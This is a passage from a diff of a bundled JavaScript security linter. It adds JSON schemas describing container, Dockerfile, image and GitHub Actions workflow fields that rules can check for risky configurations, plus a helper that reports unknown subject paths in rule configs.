+    origin: {
+      description: "Where the container is described: `compose-service` (a Compose service), `job-container` (a workflow job's `container:`), `job-service` (one of a job's `services:`) or `docker-cli` (a `docker run` / `docker create` in a `run:` script). Use it in a rule's `when` to keep noise down: root in a CI job container is normal, privileged mode is dangerous everywhere.",
+      enum: ["compose-service", "job-container", "job-service", "docker-cli"]
+    },
+    image: {
+      description: "The image as written (`nginx:1.27`, `ghcr.io/acme/api@sha256:\u2026`), after Compose interpolation. Absent when none is written or when it is unknown (an unresolved variable, a `${{ }}` expression); the `image` subject of the same name judges the reference in detail.",
+      type: "string"
+    },
+    build: {
+      description: "Compose `build:` (the string form is the context). Absent when the service builds nothing, or when its context is an unresolved variable. Only Compose services have it.",
+      type: "object",
+      additionalProperties: false,
+      required: ["context"],
+      properties: {
+        context: {
+          description: "The build context as written, relative to the Compose file's folder (`.` when the long syntax leaves it out); may be a URL.",
+          type: "string"
+        },
+        dockerfile: {
+          description: "`build.dockerfile` as written, relative to the context; absent when not written (Compose then builds `Dockerfile`).",
+          type: "string"
+        },
+        resolved: {
+          description: "The Dockerfile's repository-relative path (`app/Dockerfile`), set by the link stage when the context is a folder inside the repository. When that Dockerfile was scanned, `user` and `healthcheck` fall back to its final (or `build.target`) stage's. Absent for remote or absolute contexts.",
+          type: "string"
+        }
       }
-      visit2(child2, childAt);
+    },
+    user: {
+      description: "The user the container runs as, as written (`1000`, `app:app`, `root`): Compose `user:`, `--user`/`-u`; for a Compose service that builds a scanned Dockerfile and sets no `user:`, that stage's effective `USER`. Absent when not set (the image's default user, root unless the image says otherwise) or unknown.",
+      type: "string"
+    },
+    privileged: {
+      description: 'Privileged mode: Compose `privileged:` (strings such as `"true"` converted as Compose converts them) or `--privileged[=bool]`. Absent when not written or unknown.',
+      type: "boolean"
+    },
+    cap_add: {
+      description: "Capabilities added (`cap_add:`, `--cap-add`), upper case without the `CAP_` prefix (`sys_admin` and `CAP_SYS_ADMIN` become `SYS_ADMIN`); `ALL` as written. Unknown entries are left out.",
+      type: "array",
+      items: { type: "string" }
+    },
+    cap_drop: {
+      description: "Capabilities dropped (`cap_drop:`, `--cap-drop`), normalized like `cap_add`.",
+      type: "array",
+      items: { type: "string" }
+    },
+    security_opt: {
+      description: "Security options (`security_opt:`, `--security-opt`), each as `key=value`: Compose's `seccomp:unconfined` becomes `seccomp=unconfined`, a bare `no-new-privileges` becomes `no-new-privileges=true`; other entries as written.",
+      type: "array",
+      items: { type: "string" }
+    },
+    network_mode: {
+      description: "Compose `network_mode:` or `--network`/`--net` (`host`, `none`, `bridge`, `container:<name>`, a network name; Docker 25's `name=host,alias=x` form gives `host`). Absent when not written or unknown.",
+      type: "string"
+    },
+    pid: {
+      description: "PID namespace (`pid:`, `--pid`), e.g. `host`. Absent when not written or unknown.",
+      type: "string"
+    },
+    ipc: {
+      description: "IPC namespace (`ipc:`, `--ipc`), e.g. `host`, `shareable`. Absent when not written or unknown.",
+      type: "string"
+    },
+    uts: {
+      description: "UTS namespace (`uts:`, `--uts`), e.g. `host`. Absent when not written or unknown.",
+      type: "string"
+    },
+    userns_mode: {
+      description: "User namespace mode (`userns_mode:`, `--userns`), e.g. `host`. Absent when not written or unknown.",
+      type: "string"
+    },
+    cgroup: {
+      description: "Cgroup namespace (`cgroup:`, `--cgroupns`): `host` or `private`. Absent when not written or unknown.",
+      type: "string"
+    },
+    cgroup_parent: {
+      description: "Parent cgroup (`cgroup_parent:`, `--cgroup-parent`), as written. Absent when not written or unknown.",
+      type: "string"
+    },
+    volumes: {
+      description: "Mounts, from Compose short (`./data:/data:ro,z`) or long syntax, `volumes:` of a workflow job container or service, `-v`/`--volume` and `--mount`, in the order written (job `volumes:` first, then `options:`). An entry whose target (or long-syntax `type`) is unknown is left out. Merged by target when override files or `extends` combine services.",
+      type: "array",
+      items: {
+        type: "object",
+        additionalProperties: false,
+        required: ["type", "target", "read_only"],
+        properties: {
+          type: {
+            description: "`bind` for a host path (a short-syntax source starting with `/`, `.`, `~` or a Windows drive, or a `-v` source that is a variable), `volume` for a named or anonymous volume, else the long syntax's or `--mount`'s `type` (an unrecognized long-syntax type reads as `volume`).",
+            enum: ["bind", "volume", "tmpfs", "npipe", "cluster", "image"]
+          },
+          source: {
+            description: "The host path of a bind as written (`~` and relative paths kept, so `/`, `/var/run/docker.sock` and `./data` can be matched), or the volume's name. Absent for an anonymous volume, or when the source is a variable (`$PWD:/src`, `${{ github.workspace }}:/src`).",
+            type: "string"
+          },
+          target: {
+            description: "The path inside the container, as written.",
+            type: "string"
+          },
+          read_only: {
+            description: "Mounted read-only: the `ro` mode, long syntax `read_only: true`, or `--mount \u2026,readonly`. `false` otherwise.",
+            type: "boolean"
+          },
+          propagation: {
+            description: "Bind propagation (`shared`, `rshared`, `slave`, `rslave`, `private`, `rprivate`) from the short-syntax modes, long syntax `bind.propagation` or `--mount bind-propagation=`. Absent when not written.",
+            type: "string"
+          }
+        }
+      }
+    },
+    ports: {
+      description: 'Published ports, from Compose short syntax (`"127.0.0.1:8080:80/tcp"`, ranges, bracketed IPv6 hosts), long syntax, a job container\'s `ports:`, or `-p`/`--publish`. Unknown entries are left out.',
+      type: "array",
+      items: {
+        type: "object",
+        additionalProperties: false,
+        required: ["target", "protocol"],
+        properties: {
+          host_ip: {
+            description: "The host address the port is bound to (`127.0.0.1`, `::1`, brackets removed). Absent when the port is bound to every interface.",
+            type: "string"
+          },
+          published: {
+            description: 'The host port or range as written (`"8080"`, `"8000-8010"`), always a string. Absent when Docker picks an ephemeral one (`"80"` alone).',
+            type: "string"
+          },
+          target: {
+            description: 'The container port or range as written, always a string (`"80"`, `"8000-8010"`).',
+            type: "string"
+          },
+          protocol: {
+            description: "`tcp` unless written otherwise (`udp`, `sctp`).",
+            type: "string"
+          }
+        }
+      }
+    },
+    devices: {
+      description: "Host devices mapped in (`devices:`, `--device`), in the CLI's `host[:container[:permissions]]` form (`/dev/fuse`, `/dev/sda:/dev/xvda:rwm`); Compose's long syntax is folded into that form.",
+      type: "array",
+      items: { type: "string" }
+    },
+    read_only: {
+      description: "Read-only root filesystem (`read_only:`, `--read-only[=bool]`). Absent when not written or unknown.",
+      type: "boolean"
+    },
+    mem_limit: {
+      description: 'Memory limit as written (`512m`, `"1073741824"`): Compose `mem_limit:`, else `deploy.resources.limits.memory`, or `-m`/`--memory`. Parsers give a string today; a rule should accept a number too. Absent when no limit is set or it is unknown.',
+      type: ["string", "number"]
+    },
+    cpus: {
+      description: 'CPU limit as written (`"0.5"`, `"2"`): Compose `cpus:`, else `deploy.resources.limits.cpus`, or `--cpus`. Parsers give a string today; a rule should accept a number too. Absent when no limit is set or it is unknown.',
+      type: ["string", "number"]
+    },
+    pids_limit: {
+      description: "Process-count limit: Compose `pids_limit:`, else `deploy.resources.limits.pids`, or `--pids-limit`; `-1` (or `0`) means unlimited. Absent when not set, unknown or not an integer.",
+      type: "integer"
+    },
+    healthcheck: {
+      description: "The health check: Compose `healthcheck:`, `--health-cmd` / `--no-healthcheck`, or (for a Compose service without one that builds a scanned Dockerfile) the stage's `HEALTHCHECK`. Absent when none is set anywhere Containment can see, which may still mean the image defines one.",
+      type: "object",
+      additionalProperties: false,
+      required: ["disable"],
+      properties: {
+        test: {
+          description: 'The test as written: a list (`["CMD", "curl", "-f", "http://localhost"]`, `["CMD-SHELL", "\u2026"]`, `["NONE"]`) or a string (Compose\'s shell form). `--health-cmd x` gives `["CMD-SHELL", "x"]`, `--no-healthcheck` `["NONE"]`; a Dockerfile\'s `HEALTHCHECK NONE` gives `[]`. Absent when only `disable` is written or a word of it is unknown.',
+          type: ["array", "string"],
+          items: { type: "string" }
+        },
+        disable: {
+          description: 'The health check is switched off: `disable: true`, a test of `["NONE"]`, `--no-healthcheck` or `HEALTHCHECK NONE`.',
+          type: "boolean"
+        }
+      }
+    },
+    restart: {
+      description: "Restart policy as written (`no`, `always`, `on-failure:5`, `unless-stopped`): `restart:` or `--restart`. Absent when not written or unknown.",
+      type: "string"
+    },
+    environment: {
+      description: "Environment variables by name: Compose `environment:` (list or map form), a job container's `env:`, `-e`/`--env`. Values as written after Compose interpolation (so a rule can tell `${{ secrets.X }}` from a literal); `null` when the variable is passed through from the caller (`- KEY`, `KEY:`, `-e KEY`) or its value is unknown. `--env-file` is not read.",
+      type: "object",
+      additionalProperties: { type: ["string", "null"] }
+    },
+    secrets: {
+      description: "Compose secrets granted to the service, by source name (short syntax, or long syntax's `source`). Empty for workflow containers.",
+      type: "array",
+      items: { type: "string" }
+    },
+    use_api_socket: {
+      description: "Compose `use_api_socket:` / `--use-api-socket`: the Docker API socket is mounted in. Absent when not written or unknown.",
+      type: "boolean"
+    },
+    sysctls: {
+      description: "Kernel parameters by name (`sysctls:` list or map, `--sysctl key=value`), values as strings.",
+      type: "object",
+      additionalProperties: { type: "string" }
+    },
+    tmpfs: {
+      description: "tmpfs mounts as written (`/run`, `/tmp:rw,noexec,size=64m`): Compose `tmpfs:` or `--tmpfs`. `type: tmpfs` entries of `volumes` are in `volumes`.",
+      type: "array",
+      items: { type: "string" }
+    },
+    credentials: {
+      description: "A workflow job container's or service's registry `credentials:`, as written, so a rule can tell `${{ secrets.X }}` from a password written in the file. Absent when none are given (always absent for Compose and `docker run`); an empty object when `credentials:` holds neither key.",
+      type: "object",
+      additionalProperties: false,
+      properties: {
+        username: {
+          description: "`credentials.username` as written; absent when not written.",
+          type: "string"
+        },
+        password: {
+          description: "`credentials.password` as written (normally a `${{ secrets.X }}` expression); absent when not written.",
+          type: "string"
+        }
+      }
     }
-  };
-  visit2(schema, pointer);
-  return found;
-}
+  }
+};
+
+// src/subjects/schemas/dockerfile.schema.json
+var dockerfile_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/dockerfile.json",
+  title: "dockerfile",
+  description: "A Dockerfile as a whole: its parser directives and its stages. Comes from every file named `Dockerfile`, `Dockerfile.*`, `*.Dockerfile` or `Containerfile` that has at least one `FROM`. Its stages, `FROM` images and `RUN` commands are subjects of their own (`dockerfile.stage`, `image`, `command`). A file that a workflow builds carries that workflow's step as evidence.",
+  type: "object",
+  additionalProperties: false,
+  required: ["directives", "stageCount", "finalStage"],
+  properties: {
+    directives: {
+      description: "Parser directives from the leading comment lines (`# syntax=docker/dockerfile:1`), the first of each kind; a directive that is not written is absent.",
+      type: "object",
+      additionalProperties: false,
+      properties: {
+        syntax: {
+          description: "`# syntax=` as written: the BuildKit frontend image (`docker/dockerfile:1`).",
+          type: "string"
+        },
+        escape: {
+          description: "`# escape=` as written: the escape character (`\\` by default, `` ` `` on Windows).",
+          type: "string"
+        },
+        check: {
+          description: "`# check=` as written (`skip=JSONArgsRecommended;error=true`): the build checks BuildKit runs.",
+          type: "string"
+        }
+      }
+    },
+    stageCount: {
+      description: "How many build stages (`FROM` instructions) the file has; at least 1.",
+      type: "integer",
+      minimum: 1
+    },
+    finalStage: {
+      description: "The 0-based index of the stage `docker build` produces without `--target`: the last one (`stageCount - 1`).",
+      type: "integer",
+      minimum: 0
+    }
+  }
+};
+
+// src/subjects/schemas/dockerfile-stage.schema.json
+var dockerfile_stage_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/dockerfile.stage.json",
+  title: "dockerfile.stage",
+  description: "One build stage of a Dockerfile: a `FROM` and the instructions up to the next `FROM`. Comes from Dockerfiles, one subject per stage, named by its `AS` name or `stage N`. `user` and `healthcheck` are the stage's effective values, inherited through `FROM <earlier stage>`, and located where they are written (possibly in another stage). A Compose service that builds this file takes its final (or `build.target`) stage's `user` and `healthcheck` when it sets none.",
+  type: "object",
+  additionalProperties: false,
+  required: ["index", "from", "isFinal", "instructions", "expose"],
+  properties: {
+    index: {
+      description: "The stage's 0-based position in the file.",
+      type: "integer",
+      minimum: 0
+    },
+    name: {
+      description: "The `AS` name as written (Docker compares stage names case-insensitively). Absent when the stage has none.",
+      type: "string"
+    },
+    from: {
+      description: "The image or stage name this stage starts from, after expanding the `ARG`s declared before the first `FROM` (with their defaults; a variable without one stays as written). `scratch` as written.",
+      type: "string"
+    },
+    fromStage: {
+      description: "The index of the earlier stage that `from` names (by its `AS` name, case-insensitively). Absent when `from` is an image; such stages also have an `image` subject.",
+      type: "integer",
+      minimum: 0
+    },
+    platform: {
+      description: "`FROM --platform=` after `ARG` expansion (`linux/amd64`, `$BUILDPLATFORM` stays as written). Absent when not written.",
+      type: "string"
+    },
+    user: {
+      description: "The user the stage runs as: the arguments of its last `USER` as written (`app`, `1000:1000`, `$APP_USER`), else the user of the stage it starts from, else absent (the base image's default, which is root unless the image says otherwise).",
+      type: "string"
+    },
+    isFinal: {
+      description: "The last stage of the file, the one `docker build` produces without `--target`.",
+      type: "boolean"
+    },
+    instructions: {
+      description: "The stage's instructions after its `FROM`, in file order (the `FROM` itself is not included; its facts are `from`, `platform` and `name`).",
+      type: "array",
+      items: {
+        type: "object",
+        additionalProperties: false,
+        required: ["keyword", "args", "flags"],
+        properties: {
+          keyword: {
+            description: "The instruction, upper case (`RUN`, `COPY`, `USER`, `ENV`, \u2026); an unknown instruction is kept as written, upper-cased, and reported as a problem.",
+            type: "string"
+          },
+          args: {
+            description: "The arguments after the flags, variables left as written: the decoded strings in exec (JSON) form, the words otherwise.",
+            type: "array",
+            items: { type: "string" }
+          },
+          flags: {
+            description: 'The `--name=value` flags by name, each with its values in order (`--mount=type=secret,id=npm` \u2192 `{ "mount": ["type=secret,id=npm"] }`); a flag written without a value maps to `[""]`.',
+            type: "object",
+            additionalProperties: { type: "array", items: { type: "string" } }
+          },
+          form: {
+            description: '`json` for exec form (`["a", "b"]`), `shell` otherwise, for `RUN`, `CMD`, `ENTRYPOINT`, `SHELL`, `ADD`, `COPY` and `VOLUME`; absent for instructions that have no forms.',
+            enum: ["json", "shell"]
+          }
+        }
+      }
+    },
+    healthcheck: {
+      description: "The stage's effective `HEALTHCHECK`: its own last one, else the one of the stage it starts from. Absent when none is set (the base image may still define one).",
+      type: "object",
+      additionalProperties: false,
+      required: ["test", "disable"],
+      properties: {
+        test: {
+          description: 'In Docker\'s image-config form: `["CMD", \u2026]` for exec form, `["CMD-SHELL", "<command>"]` for shell form, `[]` for `HEALTHCHECK NONE`.',
+          type: "array",
+          items: { type: "string" }
+        },
+        disable: {
+          description: "`HEALTHCHECK NONE`: the base image's health check is switched off.",
+          type: "boolean"
+        }
+      }
+    },
+    expose: {
+      description: "The ports of the stage's own `EXPOSE` instructions, as written (`80`, `8080/tcp`, `$PORT`), in order. Not inherited.",
+      type: "array",
+      items: { type: "string" }
+    }
+  }
+};
+
+// src/subjects/schemas/image.schema.json
+var image_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/image.json",
+  title: "image",
+  description: "An image reference that something pulls or builds from, split the way Docker's reference grammar splits it. Comes from a Dockerfile `FROM` (after `ARG` expansion; not for `scratch` or a `FROM` naming an earlier stage), Compose `services.<name>.image` (only for services without `build:`), a workflow job's `container` / `container.image` and `services.<name>.image`, a step's `uses: docker://\u2026`, a Docker action's `runs.image: docker://\u2026` in `action.yml`, and the image of each `docker run` / `docker create` in a `run:` script.",
+  type: "object",
+  additionalProperties: false,
+  required: ["ref", "registry", "repository", "isLatest", "isVariable", "origin"],
+  properties: {
+    ref: {
+      description: "The reference as written, trimmed, after variable expansion where it was possible (Dockerfile `ARG` defaults, Compose `.env`), without a `docker://` prefix.",
+      type: "string"
+    },
+    registry: {
+      description: "The registry host (`ghcr.io`, `localhost:5000`); `docker.io` when none is written (and for `index.docker.io` / `registry-1.docker.io`). The empty string when `isVariable`.",
+      type: "string"
+    },
+    repository: {
+      description: "The repository path, lower case, without registry, tag or digest; Docker Hub official images get their implicit `library/` namespace (`nginx` \u2192 `library/nginx`). The empty string when `isVariable`.",
+      type: "string"
+    },
+    tag: {
+      description: "The tag as written (`1.27-alpine`, `latest`). Absent when no tag is written or when `isVariable`.",
+      type: "string"
+    },
+    digest: {
+      description: "What follows `@`, as written; a real pin is `sha256:` and 64 hex digits (only then is `isLatest` false without a tag). Absent when the reference has no `@` or when `isVariable`.",
+      type: "string"
+    },
+    isLatest: {
+      description: "Resolves to a moving `latest`: tagged `latest`, or neither tagged nor pinned by a `sha256:` digest. `false` when `isVariable`.",
+      type: "boolean"
+    },
+    isVariable: {
+      description: "The reference still holds a variable (`$VAR`, `${VAR}`, `${{ matrix.image }}`) or is empty, so nothing about it can be verified; `registry` and `repository` are then empty and `isLatest` is `false`. Rules about tags and digests should exclude these and leave them to a rule on `isVariable`.",
+      type: "boolean"
+    },
+    origin: {
+      description: "Where the reference is written: `dockerfile-from`, `compose-service`, `job-container`, `job-service`, `docker-action` (a step's `uses: docker://\u2026`), `action-runs` (`runs.image` of an `action.yml`) or `docker-cli` (`docker run` / `docker create`).",
+      enum: ["dockerfile-from", "compose-service", "job-container", "job-service", "docker-action", "action-runs", "docker-cli"]
+    }
+  }
+};
+
+// src/subjects/schemas/workflow.schema.json
+var workflow_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/workflow.json",
+  title: "workflow",
+  description: "A GitHub Actions workflow file as a whole: its triggers, its top-level permissions and environment. Comes from every `.github/workflows/*.yml` / `*.yaml` that is a YAML mapping. Each job is a `workflow.job` subject and each step a `workflow.step` subject. Composite actions (`action.yml`) have no `workflow` subject.",
+  type: "object",
+  additionalProperties: false,
+  required: ["on", "env"],
+  properties: {
+    name: {
+      description: "The workflow's `name:` as text. Absent when not written.",
+      type: "string"
+    },
+    on: {
+      description: "The workflow's triggers.",
+      type: "object",
+      additionalProperties: false,
+      required: ["events"],
+      properties: {
+        events: {
+          description: "Event names (`push`, `pull_request`, `pull_request_target`, `workflow_run`, `workflow_dispatch`, \u2026) whatever form `on:` is written in (a string, a list, or a map). Empty when `on:` is missing.",
+          type: "array",
+          items: { type: "string" }
+        },
+        config: {
+          description: "`on:` exactly as written (a string, a list, or a map with filters such as `branches`, `paths`, `types`), for rules that look at filters. Absent when `on:` is not written."
+        }
+      }
+    },
+    permissions: {
+      description: 'The top-level `permissions:` as written: `read-all`, `write-all`, `{}` or a map of scopes to `read` / `write` / `none` (`{ "contents": "read" }`). Absent when not written, in which case jobs get the repository\'s default token permissions.'
+    },
+    env: {
+      description: 'The top-level `env:` by name, scalar values as text (`true` \u2192 `"true"`), `null` as `""`; a value that is no scalar is left out. Empty when not written.',
+      type: "object",
+      additionalProperties: { type: "string" }
+    }
+  }
+};
+
+// src/subjects/schemas/workflow-job.schema.json
+var workflow_job_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/workflow.job.json",
+  title: "workflow.job",
+  description: "One job of a workflow, kept small: its steps, `uses:`, container and services are subjects of their own (`workflow.step`, `action-ref`, `container`, `image`). Comes from every entry of `jobs:` in a workflow file that is a mapping, named by the job's id. It also sums up what its steps do (`builds`, `composeFiles`, `checksOutPrHead`, `buildsPrHead`) so a rule can judge the job's trigger against them.",
+  type: "object",
+  additionalProperties: false,
+  required: ["id", "needs", "services", "env", "triggers", "builds", "composeFiles"],
+  properties: {
+    id: {
+      description: "The job's id (its key under `jobs:`).",
+      type: "string"
+    },
+    name: {
+      description: "The job's `name:` as text. Absent when not written.",
+      type: "string"
+    },
+    runsOn: {
+      description: "`runs-on:` as written: a label (`ubuntu-latest`), a list of labels, a `{ group, labels }` map, or an expression string. Absent when not written (a job that calls a reusable workflow has none).",
+      type: ["string", "array", "object", "number", "boolean"]
+    },
+    permissions: {
+      description: "The job's `permissions:` as written: `read-all`, `write-all`, `{}` or a map of scopes to `read` / `write` / `none`. Absent when not written, in which case the workflow's `permissions` apply."
+    },
+    uses: {
+      description: "The reusable workflow this job calls (`owner/repo/.github/workflows/x.yml@ref`, `./.github/workflows/x.yml`), as written. Absent for a job with steps.",
+      type: "string"
+    },
+    with: {
+      description: "The reusable workflow's inputs (`with:`), scalar values as text. Present (possibly empty) exactly when `uses` is.",
+      type: "object",
+      additionalProperties: { type: "string" }
+    },
+    secrets: {
+      description: "Secrets passed to the reusable workflow one by one (`secrets: { token: ${{ secrets.X }} }`), values as written. Present only when `uses` is and `secrets:` is a map.",
+      type: "object",
+      additionalProperties: { type: "string" }
+    },
+    secretsInherit: {
+      description: "`secrets: inherit`: every secret of the caller is handed to the reusable workflow. Absent otherwise (never `false`).",
+      const: true
+    },
+    needs: {
+      description: "The ids of the jobs this one waits for (`needs:` as a string or a list). Empty when not written.",
+      type: "array",
+      items: { type: "string" }
+    },
+    container: {
+      description: "The job container's image as written (`container: node:20` or `container.image`), expressions kept. Absent when the job has no container or its image is not a scalar. The container itself is a `container` subject named `<job>/container`.",
+      type: "string"
+    },
+    services: {
+      description: "The names of the job's service containers (keys of `services:`), each a `container` subject named `<job>/services/<name>`. Empty when none.",
+      type: "array",
+      items: { type: "string" }
+    },
+    env: {
+      description: 'The job\'s `env:` by name, scalar values as text, `null` as `""`. Empty when not written.',
+      type: "object",
+      additionalProperties: { type: "string" }
+    },
+    if: {
+      description: "The job's `if:` condition as text. Absent when not written.",
+      type: "string"
+    },
+    triggers: {
+      description: "The workflow's events (`on:`), the same list as the `workflow` subject's `on.events`; the job runs on every one of them unless its `if:` says otherwise.",
+      type: "array",
+      items: { type: "string" }
+    },
+    checksOutPrHead: {
+      description: "One of the job's steps checks out the pull request's head, the contributor's code (see `workflow.step`). Absent otherwise (never `false`).",
+      const: true
+    },
+    builds: {
+      description: "Dockerfiles the job's steps build, repository-relative, each once, in step order (see `workflow.step`). Empty when none.",
+      type: "array",
+      items: { type: "string" }
+    },
+    composeFiles: {
+      description: "Compose files the job's steps bring up, run or build, repository-relative, each once (see `workflow.step`); a default `compose.yaml` is refined by the link stage to the file that exists, plus its override file. Empty when none.",
+      type: "array",
+      items: { type: "string" }
+    },
+    buildsPrHead: {
+      description: "A step builds or runs something (a Dockerfile, a Compose file) after the pull request's head was checked out: with a `pull_request_target` or `workflow_run` trigger the contributor's code then runs with the base repository's secrets and token. Absent otherwise (never `false`).",
+      const: true
+    }
+  }
+};
+
+// src/subjects/schemas/workflow-step.schema.json
+var workflow_step_schema_default = {
+  $schema: "https://json-schema.org/draft/2020-12/schema",
+  $id: "https://containment.dev/schemas/subjects/workflow.step.json",
+  title: "workflow.step",
+  description: "One step of a workflow job, or of a composite action (`runs.steps` of an `action.yml`, with `job` empty). Named `<job>/<step id>` or `<job>/step <index>` (never by line). A step's `uses:` is also an `action-ref` subject, and the commands and `docker run` containers of its `run:` script are `command`, `container` and `image` subjects.",
+  type: "object",
+  additionalProperties: false,
+  required: ["job", "index", "with", "env", "triggers"],
+  properties: {
+    job: {
+      description: "The id of the job the step belongs to; the empty string for a composite action's step.",
+      type: "string"
+    },
+    index: {
+      description: "The step's 0-based position in its job's `steps:`.",
+      type: "integer",
+      minimum: 0
+    },
+    id: {
+      description: "The step's `id:` as text. Absent when not written.",
+      type: "string"
+    },
+    name: {
+      description: "The step's `name:` as text. Absent when not written.",
+      type: "string"
+    },
+    uses: {
+      description: "The action the step runs, as written (`actions/checkout@v4`, `./local`, `docker://alpine`). Absent for a `run:` step.",
+      type: "string"
+    },
+    run: {
+      description: "The step's script as written, expressions not expanded. Absent for a `uses:` step.",
+      type: "string"
+    },
+    shell: {
+      description: "The step's own `shell:` as written (`bash`, `pwsh`, `bash -e {0}`). Absent when not written; the job's or workflow's `defaults.run.shell` is not copied here.",
+      type: "string"
+    },
+    workingDirectory: {
+      description: "The step's `working-directory:`, else the job's, else the workflow's `defaults.run.working-directory`, as written. Absent when none is written.",
+      type: "string"
+    },
+    with: {
+      description: 'The action\'s inputs (`with:`) by name, scalar values as text, `null` as `""`. Empty when not written.',
+      type: "object",
+      additionalProperties: { type: "string" }
+    },
+    env: {
+      description: "The step's own `env:` by name, scalar values as text, `null` as `\"\"`. Empty when not written (the job's and workflow's are on their subjects).",
+      type: "object",
+      additionalProperties: { type: "string" }
+    },
+    if: {
+      description: "The step's `if:` condition as text. Absent when not written.",
+      type: "string"
+    },
+    triggers: {
+      description: "The workflow's events (`pull_request_target`, `workflow_run`, \u2026), so that step rules can judge a privileged trigger; empty in a composite action, whose callers are unknown.",
+      type: "array",
+      items: { type: "string" }
+    },
+    checksOutPrHead: {
+      description: "This step checks out a pull request's head (the contributor's code): `actions/checkout` with a `ref:` or `repository:` naming it (`${{ github.event.pull_request.head.sha }}`, `${{ github.head_ref }}`, `refs/pull/\u2026`), or a `gh pr checkout` / `git fetch|checkout|switch|pull|reset` of it in `run:`. Absent otherwise (never `false`).",
+      const: true
+    },
+    prHeadCheckedOut: {
+      description: "The pull request's head is checked out when this step runs, by this step or an earlier step of its job. Absent otherwise (never `false`).",
+      const: true
+    },
+    untrustedExpressions: {
+      description: "Attacker-controlled contexts (`github.event.pull_request.title`, `github.head_ref`, `github.event.commits.*.message`, \u2026) that `${{ }}` expressions expand into this step's `run:` script, where they become shell code; normalized to dotted form with `*` for indexes, each once, in order. Absent when there are none (and for `uses:` steps).",
+      type: "array",
+      minItems: 1,
+      items: { type: "string" }
+    },
+    builds: {
+      description: "Dockerfiles this step builds, repository-relative: `docker build [-f file] [context]` (resolved against the working directory and `cd`), or `docker/build-push-action`'s `file` / `context`. A path holding a variable, or outside the workspace, is kept as written. Absent when none.",
+      type: "array",
+      minItems: 1,
+      items: { type: "string" }
+    },
+    composeFiles: {
+      description: "Compose files this step brings up, runs or builds (`docker compose -f file \u2026 up|run|create|start|restart|build|exec|watch`, `docker-compose -f \u2026`), repository-relative. Without `-f`, the directory's default file, refined by the link stage to the Compose file that exists there, plus its override file. Absent when none.",
+      type: "array",
+      minItems: 1,
+      items: { type: "string" }
+    }
+  }
+};
+
+// src/subjects/subject-schemas.ts
+var SUBJECT_SCHEMAS = {
+  container: container_schema_default,
+  image: image_schema_default,
+  command: command_schema_default,
+  dockerfile: dockerfile_schema_default,
+  "dockerfile.stage": dockerfile_stage_schema_default,
+  compose: compose_schema_default,
+  workflow: workflow_schema_default,
+  "workflow.job": workflow_job_schema_default,
+  "workflow.step": workflow_step_schema_default,
+  "action-ref": action_ref_schema_default
+};
+var SUBJECT_TYPES = Object.keys(SUBJECT_SCHEMAS);
 
 // src/subjects/subject.ts
 var SUBJECT_TYPE_NAMES = [
@@ -72028,7 +73044,22 @@ var RULE_META_SCHEMA = {
         }
       }
     },
-    params: { type: "object" },
+    // ESLint's `meta.schema`, per param: a config that overrides a param is checked against its
+    // schema before the rule is compiled, so a typo or a wrong type is a located config error.
+    params: {
+      type: "object",
+      propertyNames: { pattern: "^[A-Za-z][A-Za-z0-9]*$" },
+      additionalProperties: {
+        type: "object",
+        additionalProperties: false,
+        required: ["description", "schema", "default"],
+        properties: {
+          description: { type: "string", minLength: 1 },
+          schema: { type: "object" },
+          default: {}
+        }
+      }
+    },
     tests: {
       type: "array",
       minItems: 2,
@@ -72060,6 +73091,70 @@ var PACK_META_SCHEMA = {
   }
 };
 
+// src/policy/subject-paths.ts
+function unknownSubjectPaths(schema, subject, field2, subjectType) {
+  const found = [];
+  const followed = /* @__PURE__ */ new Set();
+  const walk2 = (node, shape, pointer, path6) => {
+    if (shape === void 0 || node === null || typeof node !== "object" || Array.isArray(node)) return;
+    const rule = node;
+    const closed = shape.additionalProperties === false;
+    const known = shape.properties ?? {};
+    const unknown = (name, at) => {
+      const near = closestName(name, Object.keys(known));
+      found.push({
+        pointer: at,
+        message: `"${name}" is not a property of ${path6 === subjectType ? `the ${subjectType} subject` : path6}, so this part of "${field2}" can never match${near ? `; did you mean "${near}"?` : ""} ('containment subjects' lists what a ${subjectType} subject has).`
+      });
+    };
+    const child2 = (name) => known[name] ?? (typeof shape.additionalProperties === "object" ? shape.additionalProperties : void 0);
+    for (const [name, sub] of entries(rule["properties"])) {
+      const at = `${pointer}/properties/${escapeSegment(name)}`;
+      if (closed && !(name in known)) unknown(name, at);
+      else walk2(sub, child2(name), at, `${path6}.${name}`);
+    }
+    if (Array.isArray(rule["required"]) && closed) {
+      rule["required"].forEach((name, index) => {
+        if (typeof name === "string" && !(name in known)) unknown(name, `${pointer}/required/${index}`);
+      });
+    }
+    if (typeof shape.additionalProperties === "object") {
+      const values = shape.additionalProperties;
+      walk2(rule["additionalProperties"], values, `${pointer}/additionalProperties`, `${path6}.*`);
+      for (const [key, sub] of entries(rule["patternProperties"])) walk2(sub, values, `${pointer}/patternProperties/${escapeSegment(key)}`, `${path6}.*`);
+    }
+    walk2(rule["items"], shape.items, `${pointer}/items`, `${path6}[]`);
+    walk2(rule["contains"], shape.items, `${pointer}/contains`, `${path6}[]`);
+    for (const [index, sub] of list2(rule["prefixItems"])) walk2(sub, shape.items, `${pointer}/prefixItems/${index}`, `${path6}[]`);
+    for (const keyword of ["allOf", "anyOf", "oneOf"]) {
+      for (const [index, sub] of list2(rule[keyword])) walk2(sub, shape, `${pointer}/${keyword}/${index}`, path6);
+    }
+    for (const keyword of ["not", "if", "then", "else"]) walk2(rule[keyword], shape, `${pointer}/${keyword}`, path6);
+    for (const [key, sub] of entries(rule["dependentSchemas"])) walk2(sub, shape, `${pointer}/dependentSchemas/${escapeSegment(key)}`, path6);
+    const ref = rule["$ref"];
+    if (typeof ref === "string" && ref.startsWith("#/") && !followed.has(`${ref} ${path6}`)) {
+      followed.add(`${ref} ${path6}`);
+      walk2(resolveLocal(schema, ref), shape, `/${field2}${ref.slice(1)}`, path6);
+    }
+  };
+  walk2(schema, subject, `/${field2}`, subjectType);
+  return [...new Map(found.map((item) => [`${item.pointer} ${item.message}`, item])).values()];
+}
+function list2(value) {
